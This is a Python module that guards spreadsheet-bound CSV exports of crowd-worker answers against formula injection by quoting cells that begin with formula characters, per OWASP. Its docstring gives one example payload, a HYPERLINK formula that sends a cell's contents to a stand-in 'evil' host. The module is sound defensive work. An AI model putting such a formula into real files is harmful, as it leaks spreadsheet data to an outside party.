"""CSV files meant for people: every cell a spreadsheet would run as a formula is neutralised.

Crowd answers carry text from outside (a Prolific ``SESSION_ID``, an MTurk assignment id, a
worker's external id): ``=HYPERLINK("http://evil/?"&A1, "click")`` in one of them would run in
the curator's spreadsheet when they open ``answers.csv``. OWASP's rule for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text and do not evaluate. Leading spaces are looked past too (`` =1+1`` is a formula
in some spreadsheets). The csv module's quoting takes care of commas, quotes and newlines.

Numbers are written as they are (``-3`` is a number, never a formula), and so are files only
programs read (Parquet, the release's manifest and records): the quote would change their data.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_spreadsheet_csv(handle: IO[str], columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A header of ``columns`` and one line per row, every cell through :func:`spreadsheet_cell`."""
    writer = csv.DictWriter(handle, fieldnames=list(columns))
    writer.writeheader()
    writer.writerows({key: spreadsheet_cell(value) for key, value in row.items()} for row in rows)
